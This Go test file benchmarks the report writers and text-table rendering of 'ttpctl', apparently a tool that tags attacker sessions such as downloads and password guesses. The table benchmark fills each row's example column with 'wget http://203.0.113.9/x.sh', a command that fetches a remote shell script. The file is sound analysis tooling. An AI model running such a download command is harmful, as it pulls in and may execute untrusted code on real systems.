package report

import (
	"fmt"
	"io"
	"testing"

	"ttpctl/internal/event"
)

// batch is a batch of tags as a log gives them: 200 attackers, 2,000 sessions.
func batch() []event.Tag {
	tags := make([]event.Tag, 0, 4000)
	for i := range 2000 {
		d, g := download(), guess()
		d.AttackerUUID = fmt.Sprintf("3a90f681-a007-5d06-8036-%012d", i%200)
		d.SessionID = event.Some(fmt.Sprintf("s%d", i))
		g.AttackerUUID, g.SessionID, g.ObservedAt = d.AttackerUUID, d.SessionID, d.ObservedAt
		tags = append(tags, d, g)
	}
	return tags
}

func BenchmarkWrite(b *testing.B) {
	tags := batch()
	size := 0
	for i := range tags {
		size += len(tags[i].AppendJSON(nil)) + 1
	}
	for _, format := range Formats() {
		b.Run(format, func(b *testing.B) {
			w, err := NewWriter(format, io.Discard, Options{Catalogue: catalogue()})
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			b.SetBytes(int64(size))
			for b.Loop() {
				if err := w.Write(tags); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N*len(tags)), "ns/tag")
		})
	}
}

func BenchmarkTableText(b *testing.B) {
	for _, rows := range []int{25, 10_000} {
		b.Run(fmt.Sprint(rows), func(b *testing.B) {
			t := &Table{Columns: []Column{{Name: "RULE"}, {Name: "NAME", Min: 10}, {Name: "TAGS", Numeric: true}, {Name: "EXAMPLE", Note: true}}}
			for i := range rows {
				t.Add(fmt.Sprintf("R%05d", i), fmt.Sprint("rule_number_", i), i, "wget http://203.0.113.9/x.sh")
			}
			b.ReportAllocs()
			for b.Loop() {
				if err := t.WriteText(io.Discard, TextOptions{Width: 100}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
